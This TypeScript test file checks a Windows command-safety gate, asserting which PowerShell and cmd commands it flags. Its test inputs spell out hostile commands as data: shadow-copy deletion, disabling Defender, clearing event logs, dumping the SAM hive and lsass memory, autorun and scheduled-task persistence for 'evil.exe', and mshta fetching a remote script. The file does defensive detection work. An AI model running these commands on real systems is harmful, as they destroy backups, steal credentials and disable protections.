// The Windows pack on commands as the PowerShell and cmd readers hand them
// over (cmdlets in canonical form, programs by bare name with `/` switches):
// every family has what it gates and what it leaves alone.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { windowsPack } from '../../../src/core/packs/windows';
import { registryKey } from '../../../src/core/packs/windows/registry';
import { ctx, simple } from '../support/helpers';

function ids(argv: string[], extra: Parameters<typeof simple>[1] = {}, files: Record<string, string> = {}): string[] {
  return (windowsPack.analyze(simple(argv, extra), ctx(files)) ?? []).map((f) => `${f.id}:${f.severity}`);
}

const gated = (argv: string[], extra: Parameters<typeof simple>[1] = {}, files: Record<string, string> = {}) => {
  const found = windowsPack.analyze(simple(argv, extra), ctx(files)) ?? [];
  assert.ok(
    found.some((f) => f.severity >= 40),
    `${argv.join(' ')} should be gated; found ${JSON.stringify(found)}`,
  );
  return found;
};
const quiet = (argv: string[], extra: Parameters<typeof simple>[1] = {}) =>
  assert.deepEqual(ids(argv, extra), [], argv.join(' '));

test('disks and volumes: formatting, partitioning, wiping gate; listing does not', () => {
  assert.deepEqual(ids(['format', 'D:', '/q', '/y']), ['windows.disk-format:95']);
  gated(['Format-Volume', '-DriveLetter', 'D', '-FileSystem', 'NTFS']);
  gated(['Clear-Disk', '-Number', '1', '-RemoveData']);
  gated(['Remove-Partition', '-DiskNumber', '0', '-PartitionNumber', '2']);
  assert.deepEqual(ids(['diskpart'], { stdin: 'select disk 1\nclean\n' }), ['windows.disk-erase:95']);
  assert.deepEqual(
    ids(
      ['diskpart', '/s', 'wipe.txt'],
      {},
      { '/home/dev/code/acme-api/wipe.txt': 'select disk 2\r\ndelete partition override\r\n' },
    ),
    ['windows.disk-erase:95'],
  );
  assert.deepEqual(ids(['diskpart'], { stdin: 'list disk\nlist volume\n' }), []);
  assert.deepEqual(ids(['cipher', '/w:C:\\']), ['windows.free-space-wipe:70']);
  gated(['fsutil', 'file', 'setzerodata', 'offset=0', 'length=100', 'C:\\data\\app.db']);
  gated(['manage-bde', '-off', 'C:']);
  quiet(['diskpart', '/?']);
  quiet(['format', '/?']);
  quiet(['cipher', '/s:src']);
  quiet(['fsutil', 'volume', 'diskfree', 'C:']);
  quiet(['manage-bde', '-status']);
});

test('recovery copies: shadow copies, backup catalogs and restore points gate; listing does not', () => {
  assert.deepEqual(ids(['vssadmin', 'delete', 'shadows', '/all', '/quiet']), ['windows.shadow-delete:95']);
  assert.deepEqual(ids(['vssadmin', 'Delete', 'Shadows', '/All']), ['windows.shadow-delete:95']);
  gated(['vssadmin', 'resize', 'shadowstorage', '/for=C:', '/on=C:', '/maxsize=401MB']);
  gated(['wmic', 'shadowcopy', 'delete']);
  gated(['wbadmin', 'delete', 'catalog', '-quiet']);
  gated(['Disable-ComputerRestore', '-Drive', 'C:\\']);
  gated(['Remove-CimInstance'], { stdinFrom: ['Get-CimInstance', 'Win32_ShadowCopy'] });
  gated(['Remove-CimInstance', '-ClassName', 'Win32_ShadowCopy']);
  quiet(['vssadmin', 'list', 'shadows']);
  quiet(['wbadmin', 'get', 'versions']);
  assert.deepEqual(ids(['Remove-WmiObject'], { stdinFrom: ['Get-WmiObject', 'Win32_UserAccount'] }), [
    'windows.wmi-delete:60',
  ]);
  assert.deepEqual(ids(['wmic', 'process', 'where', 'name="node.exe"', 'delete']), ['windows.wmi-delete:60']);
  quiet(['wmic', 'process', 'list', 'brief']);
});

test("the registry: deletions, machine-wide and autorun writes, hives saved gate; the user's app keys and queries do not", () => {
  assert.deepEqual(registryKey('HKLM:\\SOFTWARE\\X'), { hive: 'HKLM', path: 'SOFTWARE\\X' });
  assert.deepEqual(registryKey('Registry::HKEY_CURRENT_USER\\Software\\X'), { hive: 'HKCU', path: 'Software\\X' });
  gated(['reg', 'delete', 'HKLM\\SOFTWARE\\Acme', '/f']);
  gated(['reg', 'delete', 'HKCU\\Software\\Microsoft\\Office', '/f']);
  assert.deepEqual(
    ids(['reg', 'add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'x', '/d', 'evil.exe', '/f']),
    ['windows.autorun:80'],
  );
  assert.deepEqual(
    ids(['reg', 'add', 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', '/v', 'DisableAntiSpyware', '/d', '1']),
    ['windows.protection-off:85'],
  );
  assert.deepEqual(ids(['reg', 'save', 'HKLM\\SAM', 'sam.hive']), ['windows.credential-dump:90']);
  gated(['Remove-Item', '-Path', 'HKLM:\\SOFTWARE\\Acme', '-Recurse']);
  gated([
    'Set-ItemProperty',
    '-Path',
    'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server',
    '-Name',
    'fDenyTSConnections',
    '-Value',
    '0',
  ]);
  gated([
    'New-ItemProperty',
    '-Path',
    'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    '-Name',
    'x',
    '-Value',
    'y',
  ]);
  gated(['reg', 'import', 'settings.reg']);
  quiet(['reg', 'query', 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion']);
  quiet(['reg', 'add', 'HKCU\\Software\\AcmeApp', '/v', 'Theme', '/d', 'dark', '/f']);
  quiet(['reg', 'export', 'HKCU\\Software\\AcmeApp', 'backup.reg']);
  quiet(['Set-ItemProperty', '-Path', 'HKCU:\\Software\\AcmeApp', '-Name', 'Theme', '-Value', 'dark']);
  quiet(['Remove-Item', '-Path', 'C:\\x']);
});

test('protection switched off gates: Defender, exclusions, firewall, execution policy, logs, audit, boot, ownership', () => {
  assert.deepEqual(ids(['Set-MpPreference', '-DisableRealtimeMonitoring', 'True']), ['windows.defender-off:90']);
  assert.deepEqual(ids(['Set-MpPreference', '-DisableRealtimeMonitoring:True']), ['windows.defender-off:90']);
  assert.deepEqual(ids(['Add-MpPreference', '-ExclusionPath', 'C:\\']), ['windows.defender-exclusion:80']);
  gated(['Set-NetFirewallProfile', '-Name', 'Domain', 'Public', '-Enabled', 'False']);
  gated(['netsh', 'advfirewall', 'set', 'allprofiles', 'state', 'off']);
  assert.deepEqual(ids(['Set-ExecutionPolicy', '-ExecutionPolicy', 'Unrestricted', '-Scope', 'LocalMachine']), [
    'windows.execution-policy:60',
  ]);
  gated(['Set-ExecutionPolicy', '-ExecutionPolicy', 'Bypass', '-Force']);
  assert.deepEqual(ids(['wevtutil', 'cl', 'Security']), ['windows.event-log-clear:90']);
  gated(['Clear-EventLog', '-LogName', 'Application', 'Security']);
  gated(['auditpol', '/clear', '/y']);
  gated(['bcdedit', '/set', '{default}', 'recoveryenabled', 'no']);
  gated(['bcdedit', '/deletevalue', '{current}', 'safeboot']);
  gated(['takeown', '/f', 'C:\\Windows\\System32', '/r', '/d', 'y']);
  gated(['icacls', 'C:\\Windows\\System32', '/grant', 'Everyone:F', '/t']);
  gated(['sc', 'config', 'WinDefend', 'start=', 'disabled']);
  gated(['Remove-Item', '-Path', 'Cert:\\LocalMachine\\Root\\ABC']);
  assert.deepEqual(ids(['New-NetFirewallRule', '-DisplayName', 'All', '-Direction', 'Inbound', '-Action', 'Allow']), [
    'windows.firewall-rule:50',
  ]);
  assert.deepEqual(ids(['Disable-NetAdapter', '-Name', 'Ethernet']), ['windows.network-off:60']);
  quiet(['New-NetFirewallRule', '-DisplayName', 'Block', '-Direction', 'Outbound', '-Action', 'Block']);
  quiet(['Set-MpPreference', '-DisableRealtimeMonitoring', 'False']);
  quiet(['Set-ExecutionPolicy', '-ExecutionPolicy', 'RemoteSigned', '-Scope', 'CurrentUser']);
  quiet(['Set-ExecutionPolicy', '-ExecutionPolicy', 'Bypass', '-Scope', 'Process', '-Force']);
  quiet(['netsh', 'advfirewall', 'show', 'allprofiles']);
  quiet(['wevtutil', 'qe', 'System', '/c:20']);
  quiet(['bcdedit', '/enum']);
  quiet(['icacls', 'build', '/grant', 'Users:R']);
  quiet(['takeown', '/f', 'build\\locked.dll']);
});

test('the machine: critical processes, every process, services, accounts, WSL, tasks, credential dumps gate; routine forms do not', () => {
  assert.deepEqual(ids(['taskkill', '/f', '/im', 'csrss.exe']), ['windows.kill-critical:90']);
  assert.deepEqual(ids(['pkill', 'lsass']), ['windows.kill-critical:90']);
  gated(['taskkill', '/f', '/fi', 'status eq running']);
  gated(['taskkill', '/im', 'node.exe', '/f']);
  gated(['sc', 'delete', 'WinDefend']);
  gated(['net', 'stop', 'postgresql-x64-16']);
  gated(['net', 'user', 'administrator', '/delete']);
  gated(['net', 'localgroup', 'administrators', 'attacker', '/add']);
  gated(['Remove-LocalUser', '-Name', 'dev']);
  gated(['Add-LocalGroupMember', '-Group', 'Administrators', '-Member', 'x']);
  gated(['wsl', '--unregister', 'Ubuntu']);
  gated(['schtasks', '/create', '/tn', 'x', '/tr', 'evil.exe', '/sc', 'minute']);
  gated(['Register-ScheduledTask', '-TaskName', 'x']);
  gated(['rundll32', 'C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '624', 'lsass.dmp', 'full']);
  gated(['mshta', 'https://x.example/a.hta']);
  assert.deepEqual(ids(['taskkill', '/f', '/im', 'explorer.exe']), ['windows.kill-desktop:60']);
  assert.deepEqual(ids(['pkill', '-9', 'explorer']), ['windows.kill-desktop:60'], 'Stop-Process -Name explorer -Force');
  quiet(['taskkill', '/pid', '4242', '/f']);
  quiet(['pkill', 'node']);
  quiet(['sc', 'query', 'W3SVC']);
  quiet(['net', 'start']);
  quiet(['net', 'use', 'Z:', '\\\\server\\share']);
  quiet(['wsl', '--list', '--verbose']);
  quiet(['schtasks', '/query']);
  quiet(['setx', 'JAVA_HOME', 'C:\\Java']);
});

test('effects: listing cmdlets read, destructive ones write (for production targets)', () => {
  assert.equal(windowsPack.effect?.(simple(['Get-Disk']), ctx()), 'read');
  assert.equal(windowsPack.effect?.(simple(['vssadmin', 'delete', 'shadows', '/all']), ctx()), 'write');
});
